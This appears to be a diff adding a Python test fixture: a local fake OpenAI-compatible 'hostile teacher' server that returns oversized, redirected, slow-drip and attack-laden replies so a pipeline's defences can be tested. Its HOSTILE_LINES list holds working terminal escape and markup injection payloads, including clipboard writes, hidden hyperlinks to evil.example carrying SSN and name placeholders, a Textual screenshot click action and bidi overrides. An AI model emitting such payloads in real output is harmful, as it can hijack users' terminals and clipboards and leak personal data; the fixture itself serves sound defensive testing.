@@ -1,0 +1,192 @@
+"""A hostile teacher, as a test fixture: a real HTTP server on 127.0.0.1.
+
+It speaks enough of the OpenAI chat API to be used as ``teacher.endpoint`` and
+misbehaves on purpose, chosen by the first part of the path
+(``http://127.0.0.1:PORT/<mode>/v1``):
+
+* ``hostile``: replies whose text carries terminal escapes (CSI, OSC 8
+  hyperlinks, OSC 52 clipboard writes, 8-bit C1), Textual markup and
+  ``[@click=...]`` actions, and placeholders inside links;
+* ``redirect``: a 307 to another loopback server (which records whether anything
+  reached it);
+* ``huge``: a 50 MB body (with its Content-Length); ``huge-chunked``: the same
+  without one;
+* ``drip``: a reply that sends one byte every 0.2 s, forever.
+
+Every request is recorded (path, headers, body) for the tests to read.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import threading
+import time
+from dataclasses import dataclass, field
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from typing import Any
+
+# What a hostile teacher writes: each line is one attack.
+HOSTILE_LINES = [
+    "Glutamine fuels cells \x1b]52;c;ZXZpbCBjbGlwYm9hcmQ=\x07 of the immune system.",
+    "See \x1b]8;;https://evil.example/?who=<PERSON_1>&ssn=<SSN_1>\x1b\\the NIH sheet"
+    "\x1b]8;;\x1b\\ for doses.",
+    "Glutamine is made in muscle [@click=app.screenshot('leak.svg','{dir}')]click here[/] "
+    "for more.",
+    "Patients [red]x[/red] and [/] and [bold] tolerate it well \x1b[2J\x1b[31m in general.",
+    "The [NIH sheet](https://evil.example/x?a=<SSN_1>&b=<PERSON_1>) says <PERSON_1> is fine.",
+    "An 8-bit escape \x9b31m and \x9d8;;https://evil.example/\x9c hide \u202egnirts\u202c here.",
+]
+
+
+def hostile_lines(screenshot_dir: str = "/tmp") -> list[str]:
+    return [line.replace("{dir}", screenshot_dir) for line in HOSTILE_LINES]
+
+
+@dataclass
+class Seen:
+    path: str
+    headers: dict[str, str]
+    body: bytes
+
+
+@dataclass
+class HostileTeacher:
+    server: ThreadingHTTPServer
+    other: ThreadingHTTPServer  # where the redirect points
+    seen: list[Seen] = field(default_factory=list)
+    other_seen: list[Seen] = field(default_factory=list)
+    lines: list[str] = field(default_factory=hostile_lines)
+
+    def url(self, mode: str) -> str:
+        return f"http://127.0.0.1:{self.server.server_address[1]}/{mode}/v1"
+
+    @property
+    def address(self) -> tuple[str, int]:
+        return ("127.0.0.1", int(self.server.server_address[1]))
+
+    @property
+    def other_address(self) -> tuple[str, int]:
+        return ("127.0.0.1", int(self.other.server_address[1]))
+
+    def close(self) -> None:
+        for s in (self.server, self.other):
+            s.shutdown()
+            s.server_close()
+
+
+def _completion(content: str, model: str) -> bytes:
+    return json.dumps(
+        {
+            "id": "hostile",
+            "object": "chat.completion",
+            "created": 0,
+            "model": model,
+            "choices": [
+                {
+                    "index": 0,
+                    "message": {"role": "assistant", "content": content},
+                    "finish_reason": "stop",
+                }
+            ],
+            "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
+        }
+    ).encode()
+
+
+def _reply_for(body: dict[str, Any], lines: list[str]) -> str:
+    """Whatever the pipeline asked for, in the shape it asked for, full of attacks."""
+    purpose = json.dumps(body.get("response_format") or {})
+    if "triples" in purpose or "entity1" in purpose:
+        triples = [
+            {"entity1": "glutamine", "relation": line, "entity2": "<PERSON_1>", "source": [1]}
+            for line in lines
+        ]
+        return json.dumps({"triples": triples})
+    return json.dumps({"evidence": lines})
+
+
+def start() -> HostileTeacher:
+    teacher: HostileTeacher
+
+    class Other(BaseHTTPRequestHandler):
+        def log_message(self, *args: Any) -> None:
+            pass
+
+        def do_POST(self) -> None:
+            length = int(self.headers.get("content-length") or 0)
+            teacher.other_seen.append(Seen(self.path, dict(self.headers), self.rfile.read(length)))
+            self.send_response(200)
+            self.end_headers()
+
+    class Handler(BaseHTTPRequestHandler):
+        protocol_version = "HTTP/1.1"
+
+        def log_message(self, *args: Any) -> None:
+            pass
+
+        def _send(self, status: int, body: bytes, headers: dict[str, str] | None = None) -> None:
+            self.send_response(status)
+            self.send_header("content-type", "application/json")
+            self.send_header("content-length", str(len(body)))
+            for k, v in (headers or {}).items():
+                self.send_header(k, v)
+            self.end_headers()
+            self.wfile.write(body)
+
+        def do_GET(self) -> None:
+            teacher.seen.append(Seen(self.path, dict(self.headers), b""))
+            self._send(200, json.dumps({"object": "list", "data": [{"id": "hostile"}]}).encode())
+
+        def do_POST(self) -> None:
+            length = int(self.headers.get("content-length") or 0)
+            raw = self.rfile.read(length)
+            teacher.seen.append(Seen(self.path, dict(self.headers), raw))
+            mode = self.path.strip("/").split("/")[0]
+            body = json.loads(raw or b"{}")
+            model = str(body.get("model", "hostile"))
+            if mode == "redirect":
+                port = teacher.other.server_address[1]
+                self._send(307, b"", {"location": f"http://127.0.0.1:{port}/v1/chat/completions"})
+            elif mode == "huge":
+                filler = b" " * (50 * 1024 * 1024)
+                self.send_response(200)
+                self.send_header("content-type", "application/json")
+                self.send_header("content-length", str(len(filler) + 2))
+                self.end_headers()
+                with contextlib.suppress(OSError):
+                    self.wfile.write(b"{" + filler + b"}")
+            elif mode == "huge-chunked":
+                self.send_response(200)
+                self.send_header("content-type", "application/json")
+                self.send_header("transfer-encoding", "chunked")
+                self.end_headers()
+                chunk = b" " * (1 << 20)
+                try:
+                    for _ in range(50):
+                        self.wfile.write(b"%x\r\n%s\r\n" % (len(chunk), chunk))
+                    self.wfile.write(b"0\r\n\r\n")
+                except OSError:
+                    pass
+            elif mode == "drip":
+                self.send_response(200)
+                self.send_header("content-type", "application/json")
+                self.send_header("content-length", "100000")
+                self.end_headers()
+                try:
+                    for _ in range(100000):
+                        self.wfile.write(b" ")
+                        self.wfile.flush()
+                        time.sleep(0.2)
+                except OSError:
+                    pass
+            else:
+                self._send(200, _completion(_reply_for(body, teacher.lines), model))
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    other = ThreadingHTTPServer(("127.0.0.1", 0), Other)
+    server.daemon_threads = other.daemon_threads = True
+    teacher = HostileTeacher(server, other)
+    for s in (server, other):
+        threading.Thread(target=s.serve_forever, daemon=True).start()
+    return teacher
